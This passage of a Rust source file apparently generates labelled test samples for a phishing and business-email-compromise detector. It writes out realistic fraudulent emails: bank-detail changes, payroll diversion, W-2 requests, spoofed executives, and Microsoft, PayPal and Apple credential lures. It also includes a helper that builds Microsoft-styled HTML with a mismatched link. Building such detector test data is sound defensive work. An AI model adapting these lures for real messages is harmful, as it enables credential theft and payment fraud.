        mailbox("Petra Schmidt", "p.schmidt@schmidt-buerotechnlk.example"),
        format!("{}, {}", person(AP), person(DIETER)),
        "Geänderte Bankverbindung",
        date(5, 13 * 60 + 48, 27, "+0100"),
        plain(text),
    );
    out.push(sample(
        KIND,
        2,
        true,
        DIETER.1,
        attacker_env(
            "p.schmidt@schmidt-buerotechnlk.example",
            2,
            Auth::Unauthenticated,
        ),
        m.render(),
    ));

    // 3: French, lookalike with a free-mail Reply-To and a "RIB" attached.
    let name = format!("{KIND}-03");
    let text = "Bonjour,\n\nSuite au changement de notre établissement bancaire, nous vous prions de bien vouloir prendre note de nos nouvelles coordonnées bancaires (RIB ci-joint) pour tous les paiements futurs.\n\nTitulaire : Papeterie Dupont SARL\nIBAN : FR76 1470 7000 3932 1987 6543 218\nBIC : CCBPFRPPMTG\n\nNous vous remercions de bien vouloir effectuer le règlement de la facture FA-2025-0187 (4 380,00 €) sur ce nouveau compte dès que possible.\n\nCordialement,\n\nSophie Laurent\nService comptabilité\nPapeterie Dupont SARL - Lyon\n";
    let rib = pdf(&[
        "RELEVE D'IDENTITE BANCAIRE",
        "Titulaire : PAPETERIE DUPONT SARL",
        "IBAN : FR76 1470 7000 3932 1987 6543 218",
        "BIC : CCBPFRPPMTG",
    ]);
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Sophie Laurent", "s.laurent@papeterie-dupond.example"),
        person(AP),
        "Changement de coordonnées bancaires",
        date(12, 9 * 60 + 31, 44, "+0100"),
        mixed(vec![
            plain(text),
            attachment("application/pdf", "RIB_Papeterie_Dupont.pdf", &rib),
        ]),
    )
    .header("Reply-To", "comptabilite.papeteriedupont@gmail.com");
    out.push(sample(
        KIND,
        3,
        true,
        AP.1,
        attacker_env("s.laurent@papeterie-dupond.example", 3, Auth::Aligned),
        m.render(),
    ));

    // 4: Spanish, HTML only.
    let name = format!("{KIND}-04");
    let body = "<html><body style=\"font-family:Arial,sans-serif;font-size:13px\"><p>Estimados señores:</p><p>Les comunicamos que, por motivos de reorganización interna, <b>nuestros datos bancarios han cambiado</b>. A partir de hoy, les rogamos que realicen todos los pagos futuros a la siguiente cuenta:</p><p>Titular: Suministros García S.L.<br>Banco: Banco Levante Digital<br>IBAN: ES91 2100 0418 4502 0005 1332<br>BIC: CAIXESBBXXX</p><p>Les agradeceríamos que nos confirmaran la actualización de sus registros y que abonaran la factura pendiente F-2025/0342 en la nueva cuenta.</p><p>Un saludo cordial,<br>Javier García<br>Dpto. de Administración<br>Suministros García S.L. · Valencia</p></body></html>\n";
    let m = msg(
        &name,
        Mailer::Esp,
        mailbox(
            "Javier García",
            "javier.garcia@suministros-garcia-sl.example",
        ),
        person(CARLA),
        "Cambio de datos bancarios - Suministros García",
        date(17, 12 * 60 + 9, 2, "+0100"),
        html(body),
    )
    .header(
        "Reply-To",
        &mailbox("Javier García", "administracion.sgarcia@hotmail.com"),
    );
    out.push(sample(
        KIND,
        4,
        true,
        CARLA.1,
        attacker_env(
            "javier.garcia@suministros-garcia-sl.example",
            4,
            Auth::Aligned,
        ),
        m.render(),
    ));

    // 5: Northwind lookalike, before the payment run.
    let name = format!("{KIND}-05");
    let text = "Hi John,\n\nHope you're well. Before you process this week's payment run, could you please update the payment details we have on file with you? Our bank account changed at the start of the month, details below. The invoices due this week (NW-88412 and NW-88430, total EUR 17,942.50) should go to the new account.\n\nAccount name: Northwind Traders Ltd\nIBAN: IE64 IRCE 9205 0112 3456 78\nBIC: IRCEIE2DXXX\n\nThanks a million,\nLiam\n\nLiam O'Connor | Finance\nNorthwind Traders | Dublin\n";
    let m = msg(
        &name,
        Mailer::Outlook,
        mailbox("Liam O'Connor", "liam.oconnor@northwlnd.example"),
        person(CFO),
        "Payment details update",
        date(18, 15 * 60 + 26, 50, "+0000"),
        outlook_body(text),
    );
    out.push(sample(
        KIND,
        5,
        true,
        CFO.1,
        attacker_env("liam.oconnor@northwlnd.example", 5, Auth::Aligned),
        m.render(),
    ));
    out
}

/// An "employee" asking payroll to send the salary to a new account.
fn payroll_diversion() -> Vec<Sample> {
    const KIND: &str = "payroll-diversion";
    let mut out = Vec::new();

    let name = format!("{KIND}-00");
    let text = "Hi Alice,\n\nI recently changed banks and would like to update my direct deposit information before the next payroll. Can you let me know what you need from me, or should I just send the new account and routing number here?\n\nThanks,\nBob\n\nSent from my iPhone\n";
    let m = msg(
        &name,
        Mailer::IPhone,
        mailbox("Bob Keller", "bob.keller.personal@gmail.com"),
        person(ALICE),
        "Direct deposit",
        date(6, 18 * 60 + 44, 8, "-0500"),
        plain(text),
    );
    out.push(sample(
        KIND,
        0,
        true,
        ALICE.1,
        freemail_env("bob.keller.personal@gmail.com", 0, false),
        m.render(),
    ));

    let name = format!("{KIND}-01");
    let text = "Hello Alice,\n\nI have switched to a new bank and I want my paycheck to go into my new account starting from this month's payroll. Please find the details below:\n\nBank name: Lakeshore Community Credit Union\nRouting number: 271972572\nAccount number: 8820461937\nAccount type: Checking\n\nPlease confirm when the change has been made. I'm on site visits all week so email is the best way to reach me.\n\nRegards,\nCarla Núñez\n";
    let m = msg(
        &name,
        Mailer::Outlook,
        mailbox("Carla Núñez", "carla.nunez1985@outlook.com"),
        person(ALICE),
        "Payroll account update",
        date(13, 7 * 60 + 58, 31, "-0600"),
        outlook_body(text),
    );
    out.push(sample(
        KIND,
        1,
        true,
        ALICE.1,
        freemail_env("carla.nunez1985@outlook.com", 1, false),
        m.render(),
    ));

    let name = format!("{KIND}-02");
    let text = "Hallo Alice,\n\nich habe meine Bank gewechselt. Könntest du bitte veranlassen, dass mein Gehalt ab der nächsten Abrechnung auf mein neues Gehaltskonto überwiesen wird?\n\nKontoinhaber: Dieter Müller\nIBAN: DE02 1001 1001 2624 8731 40\nBank: N26\n\nIch schreibe dir von meiner privaten Adresse, weil ich gerade keinen VPN-Zugang habe.\n\nVielen Dank und viele Grüße\nDieter\n";
    let m = msg(
        &name,
        Mailer::Thunderbird,
        mailbox("Dieter Müller", "dieter.mueller.privat@gmx.de"),
        person(ALICE),
        "Neue Bankverbindung für Gehalt",
        date(20, 20 * 60 + 15, 42, "+0100"),
        plain(text),
    );
    out.push(sample(
        KIND,
        2,
        true,
        ALICE.1,
        freemail_env("dieter.mueller.privat@gmx.de", 2, false),
        m.render(),
    ));

    let name = format!("{KIND}-03");
    let text = "Hi John,\n\nCould you help me update my payroll account? I opened a new account and would like this month's salary paid there. The new details are:\n\nAccount holder: Robert Keller\nBank: Greenfield Online Bank\nRouting: 124303120\nAccount: 553019284476\n\nI tried to change it in the HR portal but it keeps giving me an error. Sorry for bothering you with this.\n\nBest,\nBob Keller\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Bob Keller", "bob@example-org.com"),
        person(CFO),
        "Update my direct deposit",
        date(21, 10 * 60 + 3, 16, "-0500"),
        plain(text),
    );
    out.push(sample(
        KIND,
        3,
        true,
        CFO.1,
        attacker_env("bob@example-org.com", 3, Auth::Aligned),
        m.render(),
    ));
    out
}

/// The CEO or CFO "needing" every employee's tax forms.
fn tax_form_request() -> Vec<Sample> {
    const KIND: &str = "tax-form-request";
    let mut out = Vec::new();

    let name = format!("{KIND}-00");
    let text = "John,\n\nI want you to send me the list of W-2 copies of employees wage and tax statement for 2024, I need them in PDF file type, you can send it as an attachment. Kindly prepare the lists and email them to me asap.\n\nThanks\nJane\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox(
            "Jane Doe <ceo@example.org>",
            "ceo.examplemail@consultant.com",
        ),
        person(CFO),
        "W-2 request",
        date(1, 16 * 60 + 20, 5, "-0500"),
        plain(text),
    );
    out.push(sample(
        KIND,
        0,
        true,
        CFO.1,
        freemail_env("ceo.examplemail@consultant.com", 0, false),
        m.render(),
    ));

    let name = format!("{KIND}-01");
    let text = "Alice,\n\nThe auditors need all 2024 W-2 forms today for their review. Please send me the complete set as PDFs (one file is fine) as soon as possible - I'm out of the office and reading email on my phone.\n\nJohn Smith\nCFO, Example Org\n";
    let m = msg(
        &name,
        Mailer::Outlook,
        mailbox("John Smith", "cfo@examp1e.org"),
        person(ALICE),
        "Employee W2 forms - needed today",
        date(2, 9 * 60 + 12, 47, "-0500"),
        outlook_body(text),
    );
    out.push(sample(
        KIND,
        1,
        true,
        ALICE.1,
        attacker_env("cfo@examp1e.org", 1, Auth::Aligned),
        m.render(),
    ));

    let name = format!("{KIND}-02");
    let text = "Hallo Dieter,\n\nfür eine Prüfung brauche ich bis heute Nachmittag die Lohnsteuerbescheinigungen 2024 aller Mitarbeiter als PDF. Kannst du mir die bitte gesammelt schicken? Bitte vertraulich behandeln.\n\nDanke\nJane\n";
    let m = msg(
        &name,
        Mailer::Gmail,
        mailbox("Jane Doe", "jane.doe@exarnple.org"),
        person(DIETER),
        "Lohnsteuerbescheinigungen 2024",
        date(3, 11 * 60 + 37, 20, "+0100"),
        gmail_body(text),
    )
    .header("Reply-To", "jane.doe@exarnple.org");
    out.push(sample(
        KIND,
        2,
        true,
        DIETER.1,
        attacker_env("jane.doe@exarnple.org", 2, Auth::Unauthenticated),
        m.render(),
    ));
    out
}

/// A domain one character away from example.org asking for a payment.
fn lookalike_own_domain() -> Vec<Sample> {
    const KIND: &str = "lookalike-own-domain";
    let mut out = Vec::new();

    let name = format!("{KIND}-00");
    let text = "Hi team,\n\nPlease process the attached vendor invoice from Lumen Consulting Group today. It's for the Q1 strategy workshop, already approved by Jane. They are a new vendor so you'll need to set them up - bank details are on the invoice.\n\nThanks,\nJohn\n\nJohn Smith\nChief Financial Officer\nExample Org\n";
    let inv = pdf(&[
        "LUMEN CONSULTING GROUP LLC",
        "INVOICE LCG-2025-031",
        "Bill to: Example Org",
        "Q1 strategy workshop facilitation, 3 days      USD 27,600.00",
        "Total due on receipt: USD 27,600.00",
        "Wire to: Pacific Harbor Bank  ABA 121143901  Acct 90318826604",
    ]);
    let m = msg(
        &name,
        Mailer::Outlook,
        mailbox("John Smith", "cfo@examp1e.org"),
        person(AP),
        "Vendor payment - please process today",
        date(2, 13 * 60 + 5, 39, "-0500"),
        mixed(vec![
            outlook_body(text),
            attachment_outlook(
                "application/pdf",
                "LCG-2025-031.pdf",
                &inv,
                "Wed, 05 Mar 2025 18:01:44 GMT",
            ),
        ]),
    );
    out.push(sample(
        KIND,
        0,
        true,
        AP.1,
        attacker_env("cfo@examp1e.org", 0, Auth::Aligned),
        m.render(),
    ));

    let name = format!("{KIND}-01");
    let body = "<html><body><div style=\"font-family:Calibri,Arial;font-size:11pt\">John,<br><br>I need you to approve and release a payment of <b>$42,180.00</b> to our new legal counsel before 2pm today. It's time sensitive and related to a matter I can't discuss over email yet.<br><br>Reply to let me know you're on it and I'll send the beneficiary details.<br><br>Jane Doe<br>Chief Executive Officer<br>Example Org</div></body></html>\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Jane Doe", "jane.doe@exarnple.org"),
        person(CFO),
        "Payment approval",
        date(7, 10 * 60 + 48, 12, "-0500"),
        alternative(vec![plain(&html_to_text(body)), html(body)]),
    );
    out.push(sample(
        KIND,
        1,
        true,
        CFO.1,
        attacker_env("jane.doe@exarnple.org", 1, Auth::Unauthenticated),
        m.render(),
    ));

    let name = format!("{KIND}-02");
    let text = "Hi,\n\nForwarding this from the supplier - apparently it's 45 days overdue and they're threatening to stop deliveries. Can you pay it today via the link in their email? I've checked it, it's correct.\n\nThanks\nAlice\n\n-----Original Message-----\nFrom: Billing <billing@orionparts.example>\nSent: Thursday, March 13, 2025 9:02 AM\nTo: Alice Martin\nSubject: FINAL NOTICE - Invoice 4471 overdue\n\nDear customer,\n\nOur records show invoice 4471 (EUR 9,870.00) is now 45 days overdue. To avoid suspension of your account and further collection costs please settle the outstanding amount today using our secure payment page:\n\nhttps://pay.orionparts-billing.example/inv/4471\n\nOrion Parts Billing\n";
    let m = msg(
        &name,
        Mailer::Outlook,
        mailbox("Alice Martin", "alice@exampie.org"),
        person(AP),
        "FW: FINAL NOTICE - Invoice 4471 overdue",
        date(10, 9 * 60 + 30, 3, "+0100"),
        outlook_body(text),
    );
    out.push(sample(
        KIND,
        2,
        true,
        AP.1,
        attacker_env("alice@exampie.org", 2, Auth::Aligned),
        m.render(),
    ));

    let name = format!("{KIND}-03");
    let text = "Hello,\n\nPlease settle the outstanding invoice from Brightline Media (attached earlier this week) today. They called me this morning - it's urgent and I've already promised them payment. Send me the confirmation when done.\n\nRegards,\nJohn Smith\nCFO\n";
    let m = msg(
        &name,
        Mailer::Gmail,
        mailbox("John Smith", "john.smith@xn--exmple-4nf.org"),
        person(AP),
        "Urgent: outstanding invoice to settle",
        date(14, 8 * 60 + 15, 51, "-0500"),
        gmail_body(text),
    );
    out.push(sample(
        KIND,
        3,
        true,
        AP.1,
        attacker_env("john.smith@xn--exmple-4nf.org", 3, Auth::Aligned),
        m.render(),
    ));

    let name = format!("{KIND}-04");
    let text = "Hola,\n\n¿Podéis hacer hoy el pago a este proveedor? Es para el evento de Madrid y si no pagamos hoy perdemos la reserva del espacio. Adjunto la factura proforma.\n\nImporte: 12.450,00 EUR\nIBAN: ES76 0182 2370 4902 0159 4437\nBeneficiario: Eventos Castellana S.L.\n\nGracias,\nCarla\n";
    let proforma = pdf(&[
        "EVENTOS CASTELLANA S.L.",
        "FACTURA PROFORMA PF-0098",
        "Cliente: Example Org",
        "Reserva de espacio y catering, 24/04/2025",
        "TOTAL: 12.450,00 EUR",
    ]);
    let m = msg(
        &name,
        Mailer::AppleMail,
        mailbox("Carla Núñez", "carla@exannple.org"),
        person(AP),
        "Pago urgente proveedor evento",
        date(16, 12 * 60 + 44, 9, "+0100"),
        mixed(vec![
            plain(text),
            attachment("application/pdf", "Proforma_PF-0098.pdf", &proforma),
        ]),
    );
    out.push(sample(
        KIND,
        4,
        true,
        AP.1,
        attacker_env("carla@exannple.org", 4, Auth::Unauthenticated),
        m.render(),
    ));
    out
}

/// An employee's name on someone else's domain.
fn display_name_spoof() -> Vec<Sample> {
    const KIND: &str = "display-name-spoof";
    let mut out = Vec::new();

    // 0: a compromised law office's mailbox, asking for the vendor list.
    let name = format!("{KIND}-00");
    let text = "Hi Carla,\n\nCan you send me the current vendor list with contacts and bank details? I need it for a meeting this afternoon and can't get into the share from here.\n\nThanks\nDieter\n";
    let m = msg(
        &name,
        Mailer::Outlook,
        mailbox("Dieter Müller", "office@kanzlei-berger.example"),
        person(CARLA),
        "Vendor list",
        date(3, 11 * 60 + 58, 30, "+0100"),
        outlook_body(text),
    );
    let mut env = org_env("office@kanzlei-berger.example", 0, Auth::SpfOnly, false);
    env.ip = rented_ip("berger");
    out.push(sample(KIND, 0, true, CARLA.1, env, m.render()));

    // 1: "Alice" sharing the staff handbook through a fake SharePoint page.
    let name = format!("{KIND}-01");
    let body = "<html><body style=\"font-family:Segoe UI,Arial;font-size:14px\"><p>Hi Bob,</p><p>Please review and acknowledge the updated staff handbook before Friday. It covers the new hybrid work and expenses rules.</p><table cellpadding=\"12\" style=\"border:1px solid #ddd\"><tr><td><img src=\"https://exampleorg-my.sharepoint-docs.example/icons/pdf.png\" width=\"32\"></td><td><b>Staff_Handbook_2025.pdf</b><br><a href=\"https://exampleorg-my.sharepoint-docs.example/:b:/g/personal/alice/EaB3kQ9xYv1Oj?e=bob%40example.org\">Open</a></td></tr></table><p>Thanks,<br>Alice Martin<br>HR</p></body></html>\n";
    let m = msg(
        &name,
        Mailer::Esp,
        mailbox("Alice Martin", "a.martin@hr-solutions-mail.example"),
        person(BOB),
        "Alice Martin shared \"Staff_Handbook_2025.pdf\" with you",
        date(4, 14 * 60 + 11, 2, "+0000"),
        alternative(vec![plain(&html_to_text(body)), html(body)]),
    );
    out.push(sample(
        KIND,
        1,
        true,
        BOB.1,
        attacker_env("a.martin@hr-solutions-mail.example", 1, Auth::Aligned),
        m.render(),
    ));

    // 2: "John" from a generic business-sounding domain.
    let name = format!("{KIND}-02");
    let text = "Please make sure the payment to Carver & Lowe goes out today, the amount and account are in the thread I forwarded last week. If you can't find it reply here and I'll resend. I'm travelling with limited signal.\n\nJohn\n";
    let m = msg(
        &name,
        Mailer::IPhone,
        mailbox("John Smith", "jsmith@executive-mailbox.example"),
        person(AP),
        "Pending payment",
        date(19, 6 * 60 + 55, 40, "+0000"),
        plain(text),
    );
    out.push(sample(
        KIND,
        2,
        true,
        AP.1,
        attacker_env("jsmith@executive-mailbox.example", 2, Auth::Aligned),
        m.render(),
    ));

    // 3: "Bob" asking the helpdesk for a new password and MFA reset.
    let name = format!("{KIND}-03");
    let text = "Hi IT,\n\nI dropped my phone and lost the authenticator app, so I can't sign in. Could you reset my MFA and send me a temporary password to this address? I'm working from home today and need to get into Outlook for a client call at 11.\n\nThanks a lot,\nBob Keller\n";
    let m = msg(
        &name,
        Mailer::Gmail,
        mailbox("Bob Keller", "bob.keller@keller-mail.example"),
        person(IT),
        "Locked out - need MFA reset",
        date(22, 8 * 60 + 21, 15, "+0100"),
        gmail_body(text),
    );
    out.push(sample(
        KIND,
        3,
        true,
        IT.1,
        attacker_env("bob.keller@keller-mail.example", 3, Auth::SpfOnly),
        m.render(),
    ));
    out
}

/// The HTML of a notice dressed as Microsoft's: a title, paragraphs, a blue
/// button, and optionally the "copy this link" line whose text is a real
/// Microsoft URL while the href is not.
fn ms_lure_html(
    title: &str,
    paras: &[&str],
    button: &str,
    href: &str,
    shown: Option<&str>,
) -> String {
    let mut out = String::from(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title></title></head>\n<body style=\"margin:0;background:#f3f2f1\">\n<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\">\n<table width=\"600\" cellpadding=\"24\" style=\"background:#ffffff;font-family:'Segoe UI',Tahoma,sans-serif;font-size:14px;color:#323130\">\n<tr><td><img src=\"https://img-prod-cms-rt-microsoft-com.akamaized.net/cms/api/am/imageFileData/RE1Mu3b\" alt=\"Microsoft\" width=\"108\"></td></tr>\n",
    );
    out.push_str(&format!(
        "<tr><td style=\"font-size:22px;color:#0078d4\">{title}</td></tr>\n"
    ));
    for p in paras {
        out.push_str(&format!("<tr><td>{p}</td></tr>\n"));
    }
    out.push_str(&format!(
        "<tr><td><a href=\"{href}\" style=\"background:#0078d4;color:#ffffff;padding:10px 24px;text-decoration:none;display:inline-block\">{button}</a></td></tr>\n"
    ));
    if let Some(shown) = shown {
        out.push_str(&format!(
            "<tr><td style=\"font-size:12px\">If the button doesn't work, copy this link into your browser:<br><a href=\"{href}\">{shown}</a></td></tr>\n"
        ));
    }
    out.push_str("<tr><td style=\"font-size:11px;color:#605e5c\">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052<br>This message was sent from an unmonitored e-mail address. Please do not reply to this message.</td></tr>\n</table></td></tr></table>\n</body></html>\n");
    out
}

/// Microsoft 365 lures: mailbox full, held messages, password expiry; the
/// link shows login.microsoftonline.com and goes elsewhere.
fn m365_credential_link() -> Vec<Sample> {
    const KIND: &str = "m365-credential-link";
    let mut out = Vec::new();

    let name = format!("{KIND}-00");
    let href = "https://storage-quota-9f2c.web.app/?e=bob@example.org";
    let body = ms_lure_html(
        "Your mailbox is almost full",
        &[
            "bob@example.org",
            "Your mailbox has used <b>49.9 GB</b> of its <b>50 GB</b> storage limit. You can no longer send messages and <b>17 incoming messages are on hold</b>.",
            "To avoid losing access and to release your pending messages, verify your account and claim your free additional storage below.",
        ],
        "Increase storage",
        href,
        Some(
            "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=00000002-0000-0ff1-ce00-000000000000&amp;response_mode=form_post",
        ),
    );
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Microsoft 365", "no-reply@mailsvc-notify.example"),
        BOB.1.to_string(),
        "Storage quota: bob@example.org has reached 99% of its limit",
        date(5, 2 * 60 + 14, 0, "+0000"),
        alternative(vec![plain(&html_to_text(&body)), html(&body)]),
    );
    out.push(sample(
        KIND,
        0,
        true,
        BOB.1,
        attacker_env("bounce@mailsvc-notify.example", 0, Auth::Aligned),
        m.render(),
    ));

    let name = format!("{KIND}-01");
    let href = "https://pub-7d21c4e9a8b34e0f.r2.dev/owa/release.html#alice@example.org";
    let body = ms_lure_html(
        "You have 9 pending incoming messages",
        &[
            "Dear alice,",
            "The following messages sent to alice@example.org could not be delivered to your inbox and are held on the server:",
            "<table cellpadding=\"4\" style=\"font-size:13px\"><tr><td>Payment confirmation - Remittance #4471</td><td>03/12/2025</td></tr><tr><td>RE: Updated contract for signature</td><td>03/12/2025</td></tr><tr><td>Q1 bonus allocation</td><td>03/11/2025</td></tr></table>",
            "Messages will be deleted from the server after 72 hours.",
        ],
        "Release messages to inbox",
        href,
        Some("https://outlook.office365.com/mail/inbox"),
    );
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Microsoft Outlook", "postmaster@smartdentalcare.example"),
        ALICE.1.to_string(),
        "Undelivered messages for alice@example.org",
        date(7, 23 * 60 + 2, 19, "-0700"),
        html(&body),
    );
    let mut env = org_env(
        "postmaster@smartdentalcare.example",
        1,
        Auth::SpfOnly,
        false,
    );
    env.helo = "server.smartdentalcare.example".into();
    out.push(sample(KIND, 1, true, ALICE.1, env, m.render()));

    let name = format!("{KIND}-02");
    let href = "https://micr0soft-support.com/secure/session?uid=cfo%40example.org";
    let body = ms_lure_html(
        "Unusual sign-in activity",
        &[
            "We detected something unusual about a recent sign-in to the Microsoft account cf***@example.org.",
            "<b>Country/region:</b> Nigeria<br><b>IP address:</b> 197.210.55.12<br><b>Platform:</b> Android<br><b>Browser:</b> Chrome",
            "If this wasn't you, your account may be compromised. Your account will be suspended within 24 hours unless you confirm your identity.",
        ],
        "Review recent activity",
        href,
        Some("https://account.live.com/Activity"),
    );
    let m = msg(
        &name,
        Mailer::Php,
        mailbox(
            "Microsoft account team",
            "account-security-noreply@micr0soft-support.com",
        ),
        person(CFO),
        "Microsoft account security alert",
        date(11, 4 * 60 + 40, 26, "+0000"),
        alternative(vec![plain(&html_to_text(&body)), html(&body)]),
    );
    out.push(sample(
        KIND,
        2,
        true,
        CFO.1,
        attacker_env(
            "account-security-noreply@micr0soft-support.com",
            2,
            Auth::Aligned,
        ),
        m.render(),
    ));

    let name = format!("{KIND}-03");
    let href = "https://teams-msgs-view.example/l/message/19:meeting_ODk3?user=carla@example.org";
    let body = format!(
        "<html><body style=\"font-family:'Segoe UI',sans-serif;background:#f5f5f5\"><table width=\"560\" cellpadding=\"20\" style=\"background:#fff\"><tr><td><span style=\"color:#464eb8;font-size:20px\">Microsoft Teams</span></td></tr><tr><td><b>Jane Doe</b> sent a message in <b>Leadership - Q2 planning</b><br><br><i>\"Carla, can you look at the budget file before 3? Need your numbers urgently.\"</i></td></tr><tr><td><a href=\"{href}\" style=\"background:#464eb8;color:#fff;padding:8px 18px;text-decoration:none\">Reply in Teams</a></td></tr><tr><td style=\"font-size:12px;color:#666\"><a href=\"{href}\">https://teams.microsoft.com/l/message/19:meeting_ODk3@thread.v2</a><br>You have 3 unread messages. Sign in with your Example Org account to view them.</td></tr></table></body></html>\n"
    );
    let m = msg(
        &name,
        Mailer::Esp,
        mailbox("Microsoft Teams", "noreply@teams-msgs-view.example"),
        person(CARLA),
        "You have 3 unread messages in Teams",
        date(12, 13 * 60 + 29, 4, "+0000"),
        alternative(vec![plain(&html_to_text(&body)), html(&body)]),
    );
    out.push(sample(
        KIND,
        3,
        true,
        CARLA.1,
        attacker_env("bounces@teams-msgs-view.example", 3, Auth::Aligned),
        m.render(),
    ));

    let name = format!("{KIND}-04");
    let href = "https://mso365-kennwort.example/common/reprocess?mail=dieter@example.org";
    let body = ms_lure_html(
        "Ihr Passwort läuft heute ab",
        &[
            "Hallo dieter@example.org,",
            "das Kennwort für Ihr Microsoft 365-Konto läuft am <b>14.03.2025</b> ab. Danach können Sie keine E-Mails mehr senden oder empfangen.",
            "Wenn Sie Ihr aktuelles Passwort beibehalten möchten, bestätigen Sie es bitte innerhalb von 24 Stunden über die folgende Schaltfläche.",
        ],
        "Aktuelles Passwort beibehalten",
        href,
        Some("https://login.microsoftonline.com/common/reprocess?ctx=rQQIARAA"),
    );
    let m = msg(
        &name,
        Mailer::Php,
        mailbox(
            "Microsoft 365 Administrator",
            "admin@o365-kontoservice.example",
        ),
        DIETER.1.to_string(),
        "Kennwortablauf-Benachrichtigung für dieter@example.org",
        date(11, 5 * 60 + 3, 38, "+0100"),
        html(&body),
    );
    out.push(sample(
        KIND,
        4,
        true,
        DIETER.1,
        attacker_env("admin@o365-kontoservice.example", 4, Auth::Unauthenticated),
        m.render(),
    ));
    out
}

/// Links to bare IP addresses.
fn ip_literal_link() -> Vec<Sample> {
    const KIND: &str = "ip-literal-link";
    let mut out = Vec::new();

    let name = format!("{KIND}-00");
    let body = "<html><body style=\"font-family:Tahoma;font-size:13px\"><p>Dear bob,</p><p>The password for your mailbox <b>bob@example.org</b> expires today, 03/14/2025.</p><p>To keep using your current password, use the link below:</p><p><a href=\"http://203.0.113.77/owa/auth/logon.aspx?replaceCurrent=1&amp;email=bob@example.org\">Keep Current Password</a></p><p>Failure to do so will result in your mailbox being temporarily disabled.</p><p>Thank you,<br>example.org Webmail Administrator</p></body></html>\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("example.org Webmail", "admin@mail-service-notice.example"),
        BOB.1.to_string(),
        "Password expiry notice for bob@example.org",
        date(11, 6 * 60 + 10, 15, "+0000"),
        html(body),
    );
    out.push(sample(
        KIND,
        0,
        true,
        BOB.1,
        attacker_env(
            "admin@mail-service-notice.example",
            0,
            Auth::Unauthenticated,
        ),
        m.render(),
    ));

    let name = format!("{KIND}-01");
    let text = "A document has been shared with you.\n\nFrom: Accounts Payable\nFile: Q1_Payroll_Adjustments.xlsx (84 KB)\n\nView document:\nhttp://198.51.100.203:8080/docs/view.php?id=8827441&u=alice%40example.org\n\nThis link will expire in 48 hours.\n\n--\nSent via SecureShare\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox(
            "Accounts Payable via SecureShare",
            "share@docs-transfer-secure.example",
        ),
        person(ALICE),
        "Shared: Q1_Payroll_Adjustments.xlsx",
        date(13, 15 * 60 + 33, 48, "+0000"),
        plain(text),
    );
    out.push(sample(
        KIND,
        1,
        true,
        ALICE.1,
        attacker_env("share@docs-transfer-secure.example", 1, Auth::Aligned),
        m.render(),
    ));

    let name = format!("{KIND}-02");
    let body = "<html><body><div style=\"font-family:Arial;font-size:13px\"><p>Estimado usuario carla@example.org,</p><p>Su buzón de correo está lleno (2048 MB / 2048 MB). Los mensajes nuevos serán rechazados.</p><p>Tiene <b>6 mensajes pendientes</b>. Para evitar el bloqueo de su cuenta, inicie sesión y amplíe su cuota en las próximas 24 horas:</p><p><a href=\"http://[2001:db8:7a1::45]/webmail/cuota.php?u=carla@example.org\">Ampliar cuota de correo</a></p><p>Administración del sistema de correo</p></div></body></html>\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Administrador de correo", "soporte@correo-admin.example"),
        CARLA.1.to_string(),
        "Aviso: su buzón de correo está lleno",
        date(14, 3 * 60 + 55, 1, "+0100"),
        alternative(vec![plain(&html_to_text(body)), html(body)]),
    );
    out.push(sample(
        KIND,
        2,
        true,
        CARLA.1,
        attacker_env("soporte@correo-admin.example", 2, Auth::Unauthenticated),
        m.render(),
    ));
    out
}

/// Links to internationalised hosts that render as a brand.
fn punycode_link() -> Vec<Sample> {
    const KIND: &str = "punycode-link";
    let mut out = Vec::new();

    let name = format!("{KIND}-00");
    let body = "<html><body style=\"font-family:Helvetica,Arial;font-size:14px;color:#2c2e2f\"><p><img src=\"https://www.xn--pypal-4ve.com/img/logo.png\" alt=\"PayPal\" width=\"100\"></p><p>Hello,</p><p>We noticed some unusual activity on your PayPal account and have temporarily limited what you can do with it until you confirm your information.</p><p><a href=\"https://www.xn--pypal-4ve.com/signin?country.x=US&amp;locale.x=en_US\" style=\"background:#0070ba;color:#fff;padding:10px 28px;border-radius:20px;text-decoration:none\">Log in to PayPal</a></p><p>If you don't confirm within 48 hours, your account will be closed.</p><p>Sincerely,<br>PayPal</p><p style=\"font-size:11px;color:#666\">Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved.</p></body></html>\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("PayPal", "service@paypal-resolution-center.example"),
        BOB.1.to_string(),
        "Your account has been limited",
        date(6, 87, 33, "+0000"),
        html(body),
    );
    out.push(sample(
        KIND,
        0,
        true,
        BOB.1,
        attacker_env("service@paypal-resolution-center.example", 0, Auth::Aligned),
        m.render(),
    ));

    let name = format!("{KIND}-01");
    let body = "<html><body style=\"font-family:-apple-system,Helvetica;font-size:14px\"><p>Dear Customer,</p><p>Your Apple ID has been locked for security reasons. Someone tried to sign in from an unknown device in Moscow, Russia.</p><p>To unlock your account, verify your identity at <a href=\"https://xn--pple-43d.com/account/verify\">appleid.apple.com</a>.</p><p>If you do not verify within 24 hours your Apple ID will be permanently disabled.</p><p>Apple Support</p></body></html>\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Apple", "no_reply@appleid-account-support.example"),
        person(CARLA),
        "Your Apple ID has been locked",
        date(9, 22 * 60 + 40, 58, "-0800"),
        alternative(vec![plain(&html_to_text(body)), html(body)]),
    );
    out.push(sample(
        KIND,
        1,
        true,
        CARLA.1,
        attacker_env(
            "no_reply@appleid-account-support.example",
            1,
            Auth::Unauthenticated,
        ),
        m.render(),
    ));

    let name = format!("{KIND}-02");
    let href =
        "https://login.xn--mirosoft-gch.com/common/oauth2/authorize?login_hint=cfo@example.org";
    let body = ms_lure_html(
        "Review your recent sign-in",
        &[
            "A sign-in to your Example Org account from an unrecognised device was blocked.",
            "Please review this activity to keep access to your mailbox.",
        ],
        "Review activity",
        href,
        None,
